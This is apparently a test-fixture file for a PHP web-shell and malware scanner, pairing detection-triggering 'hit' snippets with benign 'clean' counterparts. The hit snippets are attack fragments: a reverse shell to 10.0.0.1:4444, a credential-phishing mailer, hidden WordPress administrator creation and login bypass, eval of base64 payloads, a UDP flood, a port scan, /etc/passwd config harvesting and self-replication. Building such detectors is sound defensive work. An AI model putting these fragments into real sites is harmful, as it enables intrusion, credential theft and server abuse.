import { capabilityRule } from '../../../../src/engine/php/watch/capabilityRules.ts'
import type { Sample } from './samples.ts'

export const capabilitySamples: readonly Sample[] = [
  {
    rule: capabilityRule.uploader,
    hit: "if (isset($_FIL~ES['f'])) { move_up~loaded_file($_FIL~ES['f']['tmp_name'], $_FIL~ES['f']['name']); }",
    clean:
      "if (pathinfo($_FIL~ES['f']['name'], PATHINFO_EXTENSION) === 'jpg') { move_up~loaded_file($_FIL~ES['f']['tmp_name'], 'up/' . $_FIL~ES['f']['name']); }",
  },
  {
    rule: capabilityRule.maybeUploader,
    hit: `move_up~loaded_file($_FIL~ES['f']['tmp_name'], $_FIL~ES['f']['name']); /*${'hf '.repeat(3000)}*/`,
    clean: "move_up~loaded_file($_FIL~ES['f']['tmp_name'], 'up/' . md5(rand()) . '.jpg');",
  },
  {
    rule: capabilityRule.mailer,
    hit: 'foreach (explode("\\n", $_PO~ST["to"]) as $to) { ma~il($to, $_PO~ST["s"], $_PO~ST["m"], "From: " . $_PO~ST["f"]); }',
    clean: "ma~il('me@hf.test', $_PO~ST['subject'], $_PO~ST['message']);",
  },
  {
    rule: capabilityRule.maybeMailer,
    hit: "ma~il($_PO~ST['to'], $_PO~ST['s'], $_PO~ST['m']);",
    clean: "ma~il($_PO~ST['to'], 'Welcome', 'Thank you.');",
  },
  {
    rule: capabilityRule.fileManager,
    hit: "$d = $_G~ET['d']; foreach (scandir($d) as $f) { echo $f; } unlink($_G~ET['u']); rename($_G~ET['a'], $_G~ET['b']); chmod($_G~ET['c'], 0644); readfile($_G~ET['r']);",
    clean:
      "foreach (scandir('cache') as $f) { unlink('cache/' . $f); } rename('a', 'b'); chmod('c', 0644); readfile('d');",
  },
  {
    rule: capabilityRule.maybeFileManager,
    hit: "foreach (scandir($_G~ET['d']) as $f) { echo $f; } unlink($_G~ET['u']); readfile($_G~ET['r']);",
    clean: "foreach (scandir($_G~ET['d']) as $f) { echo $f; }",
  },
  {
    rule: capabilityRule.hiddenTool,
    hit: `e~val(base64_d~ecode('${Buffer.from("unlink('hf_test');").toString('base64')}'));`,
    clean: "unlink('hf_test');",
  },
  {
    rule: capabilityRule.cloakedPage,
    hit: "if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('http://hf.test/' . 'p'); }",
    clean: "if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo 'hello'; }",
  },
  {
    rule: capabilityRule.maybeDoorway,
    hit: "echo file_get_contents('http://hf.test/p');",
    clean: "$a = json_decode(file_get_contents('http://hf.test/p')); echo count($a);",
  },
  {
    rule: capabilityRule.cloakedRedirect,
    hit: "if (preg_match('/google|yahoo/i', $_SERVER['HTTP_REFERER'])) { header('Location: http://hf.test/pills'); exit; }",
    clean: "header('Location: http://hf.test/new');",
  },
  {
    rule: capabilityRule.phishing,
    hit: "$m = 'User: ' . $_PO~ST['user'] . ' Pass: ' . $_PO~ST['pass~word'] . $_SERVER['REMOTE_ADDR']; ma~il('a@hf.test', 'log', $m); header('Location: https://bank.test/');",
    clean: "$u = find_user($_PO~ST['user'], $_PO~ST['pass~word']); header('Location: /');",
  },
  {
    rule: capabilityRule.maybePhishing,
    hit: "file_put_c~ontents('log.txt', $_PO~ST['pass~word'] . ' ');",
    clean: "file_put_c~ontents('log.txt', $_PO~ST['comment'] . ' ');",
  },
  {
    rule: capabilityRule.probe,
    hit: "echo 'hf_test_ok'; unlink(__FILE__);",
    clean: "echo 'hf_test_ok'; unlink('cache.txt');",
  },
  {
    rule: capabilityRule.maybeSelfRemoval,
    hit: `unlink(__FILE__); /*${'hf '.repeat(600)}*/`,
    clean: "unlink(__DIR__ . '/cache.txt');",
  },
  {
    rule: capabilityRule.wordpressUser,
    hit: "$id = wp_create_user('hf_test', 'hf_secret', 'a@hf.test'); $u = new WP_User($id); $u->set_role('administrator');",
    clean:
      "$id = wp_create_user($name, wp_generate_password(), $mail); $u = new WP_User($id); $u->set_role('administrator');",
  },
  {
    rule: capabilityRule.maybeWordpressUser,
    hit: "wp_insert_user(array('user_login' => $_G~ET['u'], 'user_pass' => $_G~ET['p'], 'role' => 'administrator'));",
    clean:
      "wp_insert_user(array('user_login' => $_G~ET['u'], 'user_pass' => $_G~ET['p'], 'role' => 'subscriber'));",
  },
  {
    rule: capabilityRule.wordpressLogin,
    hit: 'require "wp-load.php"; wp_set_auth_cookie(1);',
    clean: '$u = wp_signon($c); wp_set_auth_cookie($u->ID);',
  },
  {
    rule: capabilityRule.hiddenUser,
    hit: "add_action('pre_user_query', 'hf'); function hf($q) { $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND user_login != 'hf_test'\", $q->query_where); }",
    clean:
      "add_action('pre_user_query', 'hf'); function hf($q) { $q->query_orderby = 'ORDER BY user_login'; }",
  },
  {
    rule: capabilityRule.maybeDatabaseTool,
    hit: "$c = mysqli_connect($_PO~ST['h'], $_PO~ST['u'], $_PO~ST['p']);",
    clean: "$c = mysqli_connect('localhost', 'u', 'p');",
  },
  {
    rule: capabilityRule.reverseShell,
    hit: "$s = fsock~open('10.0.0.1', 4444); $p = proc_o~pen('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);",
    clean: "$s = fsock~open('10.0.0.1', 25); fwrite($s, 'QUIT');",
  },
  {
    rule: capabilityRule.flood,
    hit: "while (time() < $end) { $s = fsock~open('udp://' . $_G~ET['host'], 80); fwrite($s, 'X'); }",
    clean: "$s = fsock~open('udp://syslog.test', 514); fwrite($s, 'X');",
  },
  {
    rule: capabilityRule.maybePortScan,
    hit: "$s = @fsock~open($_G~ET['host'], $_G~ET['port'], $a, $b, 1); if ($s) { echo 'open'; }",
    clean: "$s = fsock~open('smtp.test', 25);",
  },
  {
    rule: capabilityRule.accountHarvest,
    hit: "$users = file('/etc/passwd'); foreach ($users as $u) { symlink($u . '/wp-config.php', 'a'); symlink($u . '/configuration.php', 'b'); }",
    clean: "$users = file('/etc/hostname'); symlink('wp-config.php', 'a');",
  },
  {
    rule: capabilityRule.replication,
    hit: "foreach (glob('*', GLOB_ONLYDIR) as $d) { copy(__FILE__, $d . '/hf.php'); }",
    clean: "foreach (glob('*', GLOB_ONLYDIR) as $d) { copy('index.html', $d . '/index.html'); }",
  },
  {
    rule: capabilityRule.maybeReplication,
    hit: "copy(__FILE__, '/srv/hf.php');",
    clean: "copy('a.php', '/srv/hf.php');",
  },
  {
    rule: capabilityRule.doorway,
    hit: "echo file_get_contents('http://hf.test/?u=' . urlencode($_SERVER['REQUEST_URI']));",
    clean: "echo strlen(file_get_contents('http://hf.test/?u=' . urlencode($_SERVER['REQUEST_URI'])));",
  },
]
